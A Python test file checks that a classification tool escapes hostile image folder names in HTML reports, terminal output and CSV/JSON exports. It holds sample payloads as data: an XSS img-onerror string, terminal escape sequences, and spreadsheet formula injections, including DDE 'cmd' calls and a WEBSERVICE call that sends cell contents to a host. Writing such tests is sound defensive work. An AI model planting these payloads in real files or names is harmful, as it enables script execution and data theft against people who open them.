"""Names that are commands elsewhere: in a page, on a terminal, in a spreadsheet."""

import csv
import json

import pytest

from common.options import terminal
from common.runs.commands import defuse
from labs.classification.__main__ import lab as classification

HTML, FORMULA = "<img src=x onerror=alert(1)>", "=cmd|' C calc'!A0"
TERMINAL = "cat\x1b[2J\x1b]0;mine\x07\u202egnp"


@pytest.fixture(scope="module")
def hostile(command, paint, tmp_path_factory):
    """Return the folder of pictures with hostile names, a run that learned from them, its words."""
    folder = tmp_path_factory.mktemp("hostile")
    for level, name in enumerate((HTML, FORMULA, TERMINAL)):
        for number in range(6):
            paint(folder / "data" / name / f"=SUM(1){HTML}\x1b[2J{number}.png", 90 * level)
    words = ("--model", "linear", "--image-size", "8", "--augment", "none", "--epochs", "1")
    words = ("train", "--data", folder / "data", *words, "--warmup", "0", "--run-dir", folder)
    done = command(classification, *words, "--name", "a", drawn=True)
    assert done.code == 0, done.err
    return folder / "data", folder / "classification" / "a", done


def test_names_are_text_in_a_report(hostile):
    page = (hostile[1] / "report.html").read_text("utf-8")
    assert "<img src=x" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_names_do_not_command_the_terminal(hostile, command):
    data, run, trained = hostile
    predicted = command(classification, "predict", run, data, "--top", "3")
    wrong = command(classification, "predict", run, data / "\x1b[2Jnone")
    assert (predicted.code, wrong.code) == (0, 2)
    for done in (trained, predicted, wrong):
        assert not set(done.out + done.err) & {"\x1b", "\x07", "\u202e"}
    assert r"cat\x1b[2J" in predicted.out
    assert terminal.plain("한국어\tأهلا\n") == "한국어\tأهلا\n"


def test_a_name_is_no_formula_in_a_spreadsheet(hostile, command):
    data, run, _ = hostile
    for form, delimiter in (("csv", ","), ("table", "\t")):
        out = run.parent / f"answers.{form}"
        words = ("predict", run, data, "--format", form, "--output", out, "--top", "3")
        assert command(classification, *words).code == 0
        rows = csv.reader(out.read_text("utf-8").splitlines(), delimiter=delimiter)
        cells = [cell for row in rows for cell in row]
        assert f"'{FORMULA}" in cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    out = run.parent / "answers.json"
    assert (
        command(classification, "predict", run, data, "--format", "json", "--output", out).code == 0
    )
    names = {guess["class"] for row in json.loads(out.read_bytes()) for guess in row["guesses"]}
    assert FORMULA in names


@pytest.mark.parametrize(
    "cell",
    [
        "=SUM(A1)",
        "=1+1",
        "=A1",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1)",
        " =A(1)",
        "\t-A(1)",
        "-1 + $B$2:B9 * (3)^SUM (1)",
        "+(((A(1))))",
        '-"a b"&WEBSERVICE("http://example.com/"&A1)',
        "@A1 INDEX(A1:A9,_xlfn.WebService (A2))",
    ],
)
def test_what_calls_something_is_defused(cell):
    assert defuse(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    [
        *("-3", "@name hello", "a (b)", "+82 10", "=", 3, None),
        "@anna I love it (so much)",
        "-1 (a).jpg",
        "- so good (but long)",
        "-" + " " * 100_000,
        "-" + "a+" * 50_000,
    ],
    ids=lambda cell: str(cell)[:20],
)
def test_what_calls_nothing_stays(cell):
    assert defuse(cell) is cell
